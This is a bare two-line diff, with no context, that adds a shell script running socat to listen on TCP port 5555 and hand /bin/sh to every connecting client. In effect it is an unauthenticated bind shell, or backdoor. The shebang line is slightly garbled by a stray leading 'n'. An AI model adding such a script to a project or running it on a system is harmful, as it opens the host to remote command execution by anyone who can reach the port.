@@ -1,0 +1,2 @@
+n#!/bin/sh
+socat TCP-LISTEN:5555,fork EXEC:/bin/sh
